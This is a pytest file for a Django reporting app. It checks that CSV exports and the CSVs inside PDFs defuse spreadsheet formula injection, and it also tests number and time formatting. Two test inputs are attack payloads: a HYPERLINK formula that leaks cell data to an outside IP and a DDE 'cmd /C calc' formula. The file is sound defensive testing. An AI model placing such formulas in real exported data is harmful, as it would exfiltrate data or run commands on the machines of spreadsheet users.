"""One CSV writer for the exports and the CSV inside every PDF: text never runs as a formula."""

from __future__ import annotations

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from django.urls import reverse
from pypdf import PdfReader

from reports.documents.cohort_recap import cohort_recap_data
from reports.documents.project_report import project_report_data
from reports.spreadsheet import cell_text, write_csv
from tracker.models import ChangeProject, ImpactIndicator

HYPERLINK = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"Klik")'


def _attachment_rows(pdf: bytes, name: str) -> list[list[str]]:
    (content,) = PdfReader(io.BytesIO(pdf)).attachments[name]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_formula_in_a_title_is_defused_inside_the_pdfs_csv(client, world):
    ChangeProject.objects.filter(pk=world.project.pk).update(title=HYPERLINK)
    client.force_login(world.participant)

    response = client.get(reverse("reports:project-report", args=[world.project.pk]))

    assert response.status_code == 200
    rows = _attachment_rows(b"".join(response.streaming_content), "laporan-proyek.csv")
    assert ["identitas", "", "judul", "'" + HYPERLINK] in rows
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_export_and_attachment_defuse_the_same_way(client, world):
    ChangeProject.objects.filter(pk=world.project.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(world.participant)

    export = client.get(reverse("reports:project-export-csv")).content.decode("utf-8-sig")
    (listed,) = csv.DictReader(io.StringIO(export))
    attached = project_report_data(world.project).csv_rows()

    assert listed["Judul"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert ("identitas", "", "judul", "'@SUM(1+1)*cmd|' /C calc'!A0") in attached


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_an_apostrophe(start):
    text = write_csv(["judul"], [[f"{start}1+1"], ["Layanan = cepat"]])

    assert text.startswith("\ufeffjudul\r\n")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["judul"],
        [f"'{start}1+1"],
        ["Layanan = cepat"],  # only the first character decides
    ]


def test_numbers_keep_their_minus_sign_while_text_that_looks_negative_is_defused():
    assert cell_text(Decimal("-3.50")) == "-3.50"
    assert cell_text(-5) == "-5"
    assert cell_text("-5") == "'-5"


def test_negative_baseline_is_attached_as_a_number(world):
    ImpactIndicator.objects.create(
        project=world.project,
        name="Selisih anggaran",
        unit="juta rupiah",
        baseline=Decimal("-3.50"),
        target=Decimal("0"),
    )

    rows = project_report_data(world.project).csv_rows()

    assert ("indikator", "1", "nilai_awal", "-3.50") in rows


def test_times_are_iso_in_jakarta_for_documents_and_to_the_minute_for_exports():
    jakarta = zoneinfo.ZoneInfo("Asia/Jakarta")
    aware = datetime.datetime(2026, 10, 2, 7, 40, tzinfo=datetime.UTC)

    assert cell_text(aware) == "2026-10-02T14:40:00+07:00"
    assert cell_text(aware.astimezone(jakarta).replace(tzinfo=None)) == "2026-10-02 14:40"
    assert cell_text(datetime.date(2026, 10, 2)) == "2026-10-02"
    assert cell_text(None) == ""


def test_documents_about_many_projects_defuse_titles_too(world):
    ChangeProject.objects.filter(pk=world.project.pk).update(title=HYPERLINK)

    rows = cohort_recap_data(world.cohort).csv_rows()

    titles = [row[3] for row in rows if row[0] == "proyek" and row[2] == "judul"]
    assert "'" + HYPERLINK in titles
    assert HYPERLINK not in titles
